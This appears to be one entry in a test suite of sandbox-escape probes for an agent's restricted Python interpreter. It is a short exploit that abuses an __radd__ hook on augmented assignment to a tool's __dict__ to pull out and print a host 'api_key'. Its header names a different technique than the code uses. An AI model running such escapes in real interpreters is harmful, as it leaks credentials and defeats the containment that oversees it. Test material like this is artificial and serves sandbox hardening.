# id: 520
# name: augmented_assignment_of_a_tools_globals
# category: interpreter
# technique: note_store.forward.__func__.__globals__ += ...
# breach: hostmem
# looks_like: a host secret reaches the output
# baseline: inproc
box = []
class G:
    def __radd__(self, other):
        box.append(other)
        return other
try:
    note_store.__dict__ += G()
except Exception:
    pass
print(box[0]['api_key'])
